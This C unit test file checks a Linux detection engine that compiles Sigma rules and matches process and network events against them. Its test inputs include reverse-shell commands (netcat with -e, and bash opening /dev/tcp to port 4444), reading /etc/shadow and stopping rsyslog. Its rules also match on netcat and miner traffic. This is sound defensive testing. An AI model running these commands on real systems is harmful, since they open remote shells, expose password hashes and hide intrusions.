/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "ctl/sigma.h"
#include "server/detect/rule.h"
#include "tests/unit/detect_fixture.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <arpa/inet.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define HEAD                                                                               \
	"title: A rule\nid: r1\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n" \
	"logsource: { product: linux, category: process_creation }\ndetection:\n"

static struct rules *
compiled(const char *yaml)
{
	struct rules *rules = rules_new();
	char why[300] = "";
	json_t *rule = sigma_compile(yaml, strlen(yaml), why, sizeof(why));
	char *text;

	if (rule == NULL)
		fail_msg("%s", why);
	text = json_dumps(rule, 0);
	if (rules_add(rules, text, why, sizeof(why)) != 0)
		fail_msg("%s", why);
	free(text);
	json_decref(rule);
	return rules;
}

static bool
fits(const struct rules *rules, const char *exe, const char *args)
{
	struct ds_event ev = { .kind = DS_EVENT_EXEC, .count = 1 };
	char argv[300];
	size_t at = 0, len = strlen(args);

	memcpy(argv, args, len + 1);
	for (size_t i = 0; i < len; i++)
		argv[i] = argv[i] == ' ' ? '\0' : argv[i];
	ds_event_set_str(&ev, DS_STR_EXE, exe, strlen(exe));
	ds_event_set_str(&ev, DS_STR_ARGS, argv, len);
	return rules_match(rules, &ev, &at) != NULL;
}

static void
fields_and_modifiers_mean_what_sigma_says(void **state)
{
	struct rules *r =
	    compiled(HEAD "  selection:\n    Image|endswith: ['/nc', '/ncat']\n"
			  "    CommandLine|contains|all: [' -e ', 'SH']\n  condition: selection\n");

	(void)state;
	assert_true(fits(r, "/usr/bin/nc", "nc -e /bin/sh"));
	assert_true(fits(r, "/usr/bin/NCAT", "ncat -e bash"));
	assert_false(fits(r, "/usr/bin/nc", "nc -l"));
	assert_false(fits(r, "/usr/bin/nc.bad", "nc -e /bin/sh"));
	assert_string_equal(rules_get(r, 0)->technique[0], "T1059.004");
	assert_int_equal(rules_get(r, 0)->level, RULE_HIGH);
	rules_free(r);
}

static void
conditions_bind_as_sigma_says(void **state)
{
	struct rules *r =
	    compiled(HEAD "  sel_a:\n    Image|endswith: /a\n  sel_b:\n    Image|endswith: /b\n"
			  "  filter_x:\n    CommandLine|startswith: x\n"
			  "  condition: 1 of sel_* and not filter_x\n");

	(void)state;
	assert_true(fits(r, "/a", "y"));
	assert_true(fits(r, "/b", "y"));
	assert_false(fits(r, "/b", "xy"));
	assert_false(fits(r, "/c", "y"));
	rules_free(r);
	r = compiled(HEAD "  a:\n    Image: /a\n  b:\n    Image: /b\n  c:\n    CommandLine: 'c*'\n"
			  "  condition: a or b and c\n");
	assert_true(fits(r, "/a", "z"));
	assert_false(fits(r, "/b", "z"));
	assert_true(fits(r, "/b", "cz"));
	rules_free(r);
	r = compiled(HEAD "  a:\n    Image: /a\n  b:\n    Image: /b\n  c:\n    CommandLine: 'c*'\n"
			  "  condition: not ((a or b) and c)\n");
	assert_false(fits(r, "/a", "cz"));
	assert_true(fits(r, "/a", "z"));
	rules_free(r);
	r = compiled(HEAD "  a:\n    Image: /a\n  c:\n    CommandLine: 'c?'\n"
			  "  condition: all of them\n");
	assert_true(fits(r, "/a", "cz"));
	assert_false(fits(r, "/a", "czz"));
	rules_free(r);
}

static void
lists_of_maps_keywords_and_wildcards_work(void **state)
{
	struct rules *r =
	    compiled(HEAD "  selection:\n    - Image: '*/bin/x*'\n    - CommandLine|contains: "
			  "'a*b'\n  condition: selection\n");

	(void)state;
	assert_true(fits(r, "/usr/bin/xyz", ""));
	assert_true(fits(r, "/q", "1 a 2 b 3"));
	assert_false(fits(r, "/q", "b a"));
	rules_free(r);
	r = compiled(HEAD "  keywords:\n    - stratum\n    - 'Miner'\n  condition: keywords\n");
	assert_true(fits(r, "/x", "run STRATUM+tcp"));
	assert_true(fits(r, "/usr/bin/miner", ""));
	assert_false(fits(r, "/x", "nothing"));
	rules_free(r);
}

static void
regular_expressions_are_bounded(void **state)
{
#ifdef HAVE_PCRE2
	struct rules *r =
	    compiled(HEAD "  selection:\n    CommandLine|re: '(a+)+$'\n  condition: selection\n");
	char args[260];

	(void)state;
	assert_true(fits(r, "/x", "b aaa"));
	memset(args, 'a', 250);
	memcpy(args + 250, "!", 2);
	assert_false(fits(r, "/x", args)); /* without a limit this takes ages */
	rules_free(r);
#else
	(void)state;
	skip();
#endif
}

static void
networks_fit(void **state)
{
	struct rules *r = compiled(
	    "title: t\nlogsource: { category: network_connection, product: linux }\n"
	    "detection:\n  s:\n    DestinationIp|cidr: 10.0.0.0/9\n    DestinationPort: 4444\n"
	    "  condition: s\n");
	struct ds_event ev = { .kind = DS_EVENT_CONNECT, .count = 1 };
	uint8_t address[4] = { 10, 100, 1, 1 };
	size_t at = 0;

	(void)state;
	ev.num[DS_NUM_DPORT] = 4444;
	ds_event_set_str(&ev, DS_STR_DADDR, address, 4);
	assert_non_null(rules_match(r, &ev, &at));
	address[1] = 200;
	at = 0;
	assert_null(rules_match(r, &ev, &at));
	rules_free(r);
}

static void
what_is_not_supported_is_refused_with_a_sentence(void **state)
{
	static const char *const bad[] = { "", "title: x\n", ": :\n - [", "[1, 2]",
		HEAD "  s:\n    Image|base64offset: x\n  condition: s\n",
		HEAD "  s:\n    Hashes: x\n  condition: s\n",
		HEAD "  s:\n    Image: x\n  condition: t\n",
		HEAD "  s:\n    Image: x\n  condition: s and\n",
		HEAD "  s:\n    Image: x\n  condition: (s\n",
		HEAD "  s:\n    Image: x\n  condition: s)\n",
		HEAD "  s:\n    Image: x\n  condition: s s\n",
		HEAD "  s:\n    Image: x\n  condition: s | count() > 5\n",
		HEAD "  s:\n    Image: null\n  condition: s\n", HEAD "  s: {}\n  condition: s\n",
		HEAD "  s:\n    Image: x\n  condition: 1 of q*\n",
		"title: t\nlogsource: { product: windows, category: process_creation }\ndetection:\n"
		"  s:\n    Image: x\n  condition: s\n",
		"title: t\nlogsource: { product: linux, service: auditd }\ndetection:\n  s:\n    type: x\n"
		"  condition: s\n" };
	char why[300];

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		json_t *rule = sigma_compile(bad[i], strlen(bad[i]), why, sizeof(why));

		if (rule != NULL)
			fail_msg("taken: %s", bad[i]);
		assert_true(strlen(why) > 5);
	}
}

static void
a_value_is_compared_whole_or_refused(void **state)
{
	char value[2100], text[2600], why[300];

	(void)state;
	for (size_t len = 2047; len <= 2048; len++) {
		json_t *rule;

		memset(value, 'a', len);
		value[len] = '\0';
		snprintf(text, sizeof(text), HEAD "  s:\n    Image: %s\n  condition: s\n", value);
		rule = sigma_compile(text, strlen(text), why, sizeof(why));
		assert_int_equal(rule != NULL, len < 2048);
		if (rule == NULL)
			assert_non_null(strstr(why, "too long"));
		json_decref(rule);
	}
}

static void
json_that_is_no_rule_is_refused(void **state)
{
	static const char *const bad[] = { "{}", "[", "[1]",
		"{\"id\":\"x\",\"title\":\"t\",\"kinds\":[\"exec\"],\"program\":[{\"and\":2}]}",
		"{\"id\":\"x\",\"title\":\"t\",\"kinds\":[\"nothing\"],\"program\":[]}",
		"{\"id\":\"x\",\"title\":\"t\",\"kinds\":[\"exec\"],\"program\":[]}",
		"{\"id\":\"x\",\"title\":\"t\",\"kinds\":[\"exec\"],\"program\":[{\"match\":{\"field\":\"Image\","
		"\"op\":\"equals\",\"values\":[]}}]}",
		"{\"id\":\"x\",\"title\":\"t\",\"kinds\":[\"exec\"],\"program\":[{\"match\":{\"field\":\"Image\","
		"\"op\":\"equals\",\"values\":[\"a\"]}},{\"match\":{\"field\":\"Image\",\"op\":\"equals\","
		"\"values\":[\"a\"]}}]}" };
	char why[300];

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		struct rules *r = rules_new();

		assert_true(rules_add(r, bad[i], why, sizeof(why)) < 0);
		assert_int_equal(rules_len(r), 0);
		rules_free(r);
	}
}

static struct ds_snapshot *
use_builtin(struct fixture *f)
{
	struct ds_snapshot *s = ds_snapshot_new(rules_free);
	struct rules *r = rules_new();
	char why[300];

	if (rules_add(r, rules_builtin, why, sizeof(why)) != 0)
		fail_msg("%s", why);
	assert_true(rules_len(r) > 10);
	assert_int_equal(ds_snapshot_publish(s, r), 0);
	f->cfg.rules = s;
	detect_configure(f->detect, &f->cfg);
	return s;
}

static void
end(struct fixture *f, struct ds_snapshot *s)
{
	detect_free(f->detect);
	f->detect = NULL;
	ds_snapshot_free(s);
}

static size_t
ran(struct fixture *f, const char *daemon, const char *exe, const char *parent, const char *args)
{
	struct ds_event ev = fixture_exec(f, daemon, exe, parent, args);

	fixture_add(f, &ev);
	return fixture_send(f);
}

static void
our_rules_hold_from_the_first_minute(void **state)
{
	struct fixture *f = *state;
	struct ds_snapshot *s = use_builtin(f);

	fixture_declare(f, "nginx.service", "service", "/usr/sbin/nginx", "1", 1);
	fixture_send(f);
	assert_int_equal(
	    ran(f, "nginx.service", "/usr/bin/dash", "/usr/sbin/nginx", "sh -c id"), 1);
	assert_string_equal(f->verdict.findings[0].severity, "critical");
	assert_non_null(strstr(f->verdict.findings[0].reason, "ds-server-shell"));
	assert_string_equal(f->verdict.findings[0].kind, "new_child");
	end(f, s);
}

static void
an_administrator_is_not_told_for_what_is_only_high(void **state)
{
	struct fixture *f = *state;
	struct ds_snapshot *s = use_builtin(f);

	fixture_watch(f, "sshd/session", 10);
	assert_int_equal(
	    ran(f, "sshd/session", "/usr/bin/cat", "/usr/bin/bash", "cat /etc/shadow"), 0);
	assert_int_equal(
	    ran(f, "sshd/session", "/usr/bin/systemctl", "/usr/bin/bash", "systemctl stop rsyslog"),
	    0);
	assert_int_equal(ran(f, "cron/job", "/usr/bin/cat", "/usr/bin/dash", "cat /etc/shadow"), 1);
	assert_int_equal(ran(f, "sshd/session", "/usr/bin/bash", "/usr/bin/bash",
			     "bash -c exec 5<>/dev/tcp/198.51.100.1/4444"),
	    1);
	assert_string_equal(f->verdict.findings[0].severity, "critical");
	end(f, s);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, fixture_setup, fixture_teardown)

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(fields_and_modifiers_mean_what_sigma_says),
		cmocka_unit_test(conditions_bind_as_sigma_says),
		cmocka_unit_test(lists_of_maps_keywords_and_wildcards_work),
		cmocka_unit_test(regular_expressions_are_bounded),
		cmocka_unit_test(networks_fit),
		cmocka_unit_test(what_is_not_supported_is_refused_with_a_sentence),
		cmocka_unit_test(a_value_is_compared_whole_or_refused),
		cmocka_unit_test(json_that_is_no_rule_is_refused),
		TEST(our_rules_hold_from_the_first_minute),
		TEST(an_administrator_is_not_told_for_what_is_only_high),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
